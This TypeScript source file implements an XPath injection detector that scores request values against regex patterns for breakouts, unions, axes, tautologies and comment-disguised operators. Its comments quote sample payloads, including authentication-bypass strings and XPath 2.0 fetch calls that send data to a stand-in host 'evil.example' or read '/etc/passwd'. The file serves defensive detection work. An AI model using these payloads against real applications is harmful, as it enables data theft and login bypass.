/**
 * XPath injection, only by what is XPath's own: `' or '1'='1` is a tautology in SQL and XPath alike and
 * is the SQL analyzer's. Here:
 * - functions over location paths: `count(/*)`, `name(/*[1])`, `string-length(name(/*))`, the blind
 *   extraction of a document's structure;
 * - node functions with no arguments compared or used after a quote breakout: `' or name()='admin`,
 *   `[position()=1]`, `text()='x'` (jQuery's `.text()` is a method call, not this);
 * - axes: `child::node()`, `descendant-or-self::*`, `following-sibling::user`;
 * - XPath 2.0's fetching functions after a breakout: `' and doc-available(concat('//evil.example/', ...))`;
 * - predicates on a descendant path: `//user[@name=...]`, `//*[1]`, `//user[username='admin']`;
 * - a predicate closed and a second path joined by the union: `'] | //user/*`, `'] | //@*`, or the path
 *   going on from the selected node: `')]/../*`, or a second predicate on it: `'][@role='admin`;
 * - a predicate made true for every node by an `or`: `[name='admin' or '1'='1']`;
 * - a quoted string closed, then an XPath comment where a blank would be, then `or`: `'(: c :)or`.
 * Honest requests carry XPath too: click analytics record the clicked element's path
 * (`//*[@id="nav"]/li[position()=2]`), scraping APIs take selectors (`//div[contains(@class,'price')]`).
 * So each construct is strong only after a breakout, a closed quote (or bracket) followed by `or`,
 * `and` or the union `|`, where a value stops being a string and goes on as an expression; alone it is
 * weak, except a function over the document's root, which selectors have no use for.
 */
import type { Analyzer, AnalyzerInput, Finding } from "./finding.ts";
import { finding } from "./text.ts";

const find = (rule: string, strength: number, start: number, end: number): Finding => finding("xpath", `xpath.${rule}`, strength, start, end);

/** Group 1: the argument's start. `/` alone or `name(/` reads the root; `//`, `@`, `.`, `*` are what selectors use. */
const PATH_FUNCTION = /\b(?:count|name|local-name|namespace-uri|string-length|substring|string|normalize-space|contains|starts-with|translate|boolean|number|sum|concat|string-to-codepoints|lower-case|upper-case|matches|exists|data)\s*\(\s*(name\s*\(\s*\/|\/\/|\/|\.\.?\/|@|\*\s*\)|(?:child|parent|self|descendant|ancestor)::)/gi;
const NODE_FUNCTION = /(^|[^\w.$])(?:name|local-name|text|node|position|last|comment)\s*\(\s*\)/gi;
/**
 * `parent` and `self` only before a node test of XPath's own (`parent::*`, `self::node()`): PHP and C++
 * write `parent::__construct()` and `self::$data`.
 */
const AXIS = /\b(?:(?:ancestor|ancestor-or-self|descendant|descendant-or-self|following|following-sibling|preceding|preceding-sibling|child|attribute)::(?:\*|node\s*\(\s*\)|text\s*\(\s*\)|[A-Za-z_])|(?:parent|self)::(?:\*|node\s*\(\s*\)|text\s*\(\s*\)))/gi;
/** Not after a host or a path (`example.com//a[1]` is a URL). */
const PREDICATE = /(?:^|[^\w.:/%-])\/\/(?:\*|[A-Za-z_][\w.-]*)\[\s*(?:@|position\s*\(|last\s*\(|text\s*\(|contains\s*\(|\d+\s*\]|[A-Za-z_][\w.-]*(?:\/(?:[A-Za-z_][\w.-]*|text\s*\(\s*\)))*\s*!?=)/g;
/** The same from the document's root (`/*[1]/*[2]`, `/users[@id]`): counted only after a breakout, as paths from the root are what selectors write too. */
const ROOT_PREDICATE = /(?:^|[^\w.:/%\])'"-])\/(?:\*|[A-Za-z_][\w.-]*)\[\s*(?:@|position\s*\(|last\s*\(|\d+\s*\])/g;
/**
 * `'] | //user/*`, `')] | //*`: a quoted string, the calls and the predicate it sat in closed, then a
 * second path joined by the union; or a string closed and a descendant path joined to it (`'|//password|'`).
 */
const UNION_BREAKOUT = /['"][\s)]*\]\s*\|\s*\/\/?@?(?:\*|[A-Za-z_][\w.-]*)|['"]\s*\|\s*\/\/@?(?:\*|[A-Za-z_][\w.-]*)/;
/**
 * `')]/../*[contains(.,'`, `"]//*`: a quoted string and the predicate it sat in closed, then the path
 * going on from the selected node (its parent, every child, an attribute, a step with a predicate of
 * its own) to read what the query never asked for; or a second predicate opened on the same node
 * (`'][@role='admin`, `'][1]`), which picks it by what the query never checked.
 */
const PATH_BREAKOUT = /['"][\s)]*\]\s*(?:\/\/?(?:\.\.|\*|@[\w*]|[A-Za-z_][\w.-]*\s*\[)|\[\s*(?:@[\w*]|position\s*\(|last\s*\(|\d+\s*\]|[A-Za-z_][\w.-]*\s*!?=))/;
/**
 * A predicate that an `or` makes true for every node: `[name/text()='admin' or '1'='1']`,
 * `[@id=5 or 1=1]`, `[x or true()]`. A selector picks nodes by what they hold; only an injected query
 * asks for all of them this way.
 */
const PREDICATE_TAUTOLOGY = /\[[^\][]{0,200}?\bor\s+(?:'([^']{0,20})'\s*=\s*'\1'|"([^"]{0,20})"\s*=\s*"\2"|(\d{1,9})\s*=\s*\3(?![\w.])|true\s*\(\s*\))/i;
/**
 * PATH_BREAKOUT where its quote is the value's first of that kind and no `[` comes before it: the string
 * and the predicate it closes were the query's, not the value's own (a selector closes what it opens,
 * `//*[@id="nav"]/li`).
 */
function pathBreakout(text: string): RegExpExecArray | null {
  const m = PATH_BREAKOUT.exec(text);
  return m && text.lastIndexOf("[", m.index) === -1 && text.indexOf(text[m.index]!) === m.index ? m : null;
}

/**
 * XPath 2.0's functions that fetch (`doc('http://evil.example/?'||...)`, `doc-available(concat(...))`,
 * `unparsed-text('/etc/passwd')`): after a breakout they send the document out or read a file.
 */
const FETCH_FUNCTION = /\b(?:doc|doc-available|unparsed-text(?:-available|-lines)?|collection)\s*\(/g;

/**
 * A quoted string closed, then an XPath 2.0 comment (`(: ... :)`, which SQL and prose never write) where
 * a blank would do, then `or`, `and` or the union and an operand (a quote, a number, a call, a path):
 * `'(: c :)or(: c :)'1'='1`, spelled so to pass a filter that looks for ` or `. A smiley in prose
 * (`"hi" (: see you :) and left`) goes on with words.
 */
const COMMENT_BREAKOUT = /['"][\s)\]]*\(:[^\r\n]{0,200}?:\)\s*(?:or\b|and\b|\|)\s*(?:\(:[^\r\n]{0,200}?:\)\s*)?['"\d(@/]/i;

/** Cheap check, one pass: something each construct below needs. */
const XPATH_HINT = new RegExp(`${FETCH_FUNCTION.source}|${/\(:|\[[^\][]{0,200}?\bor\s|['"][\s)]*\]\s*[/[]|\(\s*(?:\)|name\s*\(|[/.@*]|child::|parent::|self::|descendant::|ancestor::)|::|\/\/[\w*][\w.-]*\[|\]\s*\||['"]\s*\|\s*\//.source}`);
/**
 * Just before a construct: a quoted string (and any predicate or call it sat in) closed, then `or`,
 * `and` or `|`; or the union `|` alone, which joins a second path to the query.
 */
const BREAKOUT_BEFORE = /(?:['"][\s\])]*(?:or|and)\b|['"]?[\s\])]*\|)\s*$/i;
/** How far back a breakout is looked for. */
const BREAKOUT_REACH = 16;

function breakoutBefore(text: string, at: number, unopened: number): boolean {
  return (unopened !== -1 && unopened < at) || BREAKOUT_BEFORE.test(text.slice(Math.max(0, at - BREAKOUT_REACH), at));
}

const UNOPENED_CLOSE = /^\]\s*(?:\/|\|)/;
/** A predicate closed unopened, then a second path joined by the union: `1] | //user/*`. */
const UNOPENED_UNION = /^\]\s*\|\s*\/\/?@?(?:\*|[A-Za-z_][\w.-]*)/;

/**
 * Where the value closes a predicate it never opened and goes on as a path (`1 or 1=1]/parent::*`), or
 * -1: it broke out of the predicate it was put in, a number's, with no quote to break out of. A selector
 * a scraping API takes opens every predicate it closes. Constructs after it are after a breakout.
 */
function unopenedClose(text: string): number {
  if (text.indexOf("]") === -1) return -1;
  let depth = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    // A path before it is a selector with a typo (`//ul/li[1]]/text()`), not a value in a predicate.
    if (c === 47) return -1;
    if (c === 91) depth++;
    else if (c === 93 && --depth < 0) return UNOPENED_CLOSE.test(text.slice(i, i + 4)) ? i : -1;
  }
  return -1;
}

function firstMatch(re: RegExp, text: string): RegExpExecArray | null {
  re.lastIndex = 0;
  return re.exec(text);
}

function pathFunctionStrength(text: string, m: RegExpExecArray, unopened: number): number {
  if (breakoutBefore(text, m.index, unopened)) return 0.9;
  const argument = m[1]!;
  // `count(/*)`, `name(/*[1])`: the document's root, what blind extraction walks. `count(*)` is SQL's.
  if (argument === "/" || /^name/i.test(argument)) return 0.75;
  return argument.startsWith("*") ? 0 : 0.4;
}

export const xpathAnalyzer: Analyzer = {
  name: "xpath",
  analyze(input: AnalyzerInput): Finding[] {
    const text = input.text;
    if (typeof text !== "string" || !XPATH_HINT.test(text)) return [];
    const out: Finding[] = [];
    const unopened = unopenedClose(text);
    const fn = firstMatch(PATH_FUNCTION, text);
    const fnStrength = fn ? pathFunctionStrength(text, fn, unopened) : 0;
    if (fn && fnStrength) out.push(find("path-function", fnStrength, fn.index, fn.index + fn[0].length));
    for (let m = firstMatch(NODE_FUNCTION, text); m; m = NODE_FUNCTION.exec(text)) {
      const start = m.index + m[1]!.length;
      const end = m.index + m[0].length;
      const breakout = breakoutBefore(text, start, unopened);
      const compared = /^\s*(?:[=<>]|!=)/.test(text.slice(end, end + 4)) || text[start - 1] === "[";
      if (breakout || compared) {
        out.push(find("node-function", breakout ? 0.85 : 0.45, start, end));
        break;
      }
    }
    const axis = firstMatch(AXIS, text);
    if (axis) out.push(find("axis", breakoutBefore(text, axis.index, unopened) ? 0.85 : 0.45, axis.index, axis.index + axis[0].length));
    const union = UNION_BREAKOUT.exec(text);
    const unopenedUnion = !union && unopened !== -1 ? UNOPENED_UNION.exec(text.slice(unopened)) : null;
    const path = union ? null : pathBreakout(text);
    if (path) out.push(find("path-breakout", 0.85, path.index, path.index + path[0].length));
    if (union) out.push(find("union-breakout", 0.85, union.index, union.index + union[0].length));
    else if (unopenedUnion) out.push(find("union-breakout", 0.85, unopened, unopened + unopenedUnion[0].length));
    const fetch = firstMatch(FETCH_FUNCTION, text);
    if (fetch && breakoutBefore(text, fetch.index, unopened)) out.push(find("fetch-function", 0.85, fetch.index, fetch.index + fetch[0].length));
    const commented = text.indexOf("(:") === -1 ? null : COMMENT_BREAKOUT.exec(text);
    if (commented) out.push(find("comment-breakout", 0.85, commented.index, commented.index + commented[0].length));
    const tautology = PREDICATE_TAUTOLOGY.exec(text);
    if (tautology) out.push(find("predicate-tautology", 0.85, tautology.index, tautology.index + tautology[0].length));
    const root = text.indexOf("/") === -1 ? null : firstMatch(ROOT_PREDICATE, text);
    if (root) {
      const start = root.index + root[0].indexOf("/");
      if (breakoutBefore(text, start, unopened)) out.push(find("root-predicate", 0.85, start, root.index + root[0].length));
    }
    const predicate = firstMatch(PREDICATE, text);
    if (predicate) {
      const start = predicate.index + predicate[0].indexOf("//");
      out.push(find("descendant-predicate", breakoutBefore(text, start, unopened) ? 0.85 : 0.3, start, predicate.index + predicate[0].length));
    }
    return out;
  },
};
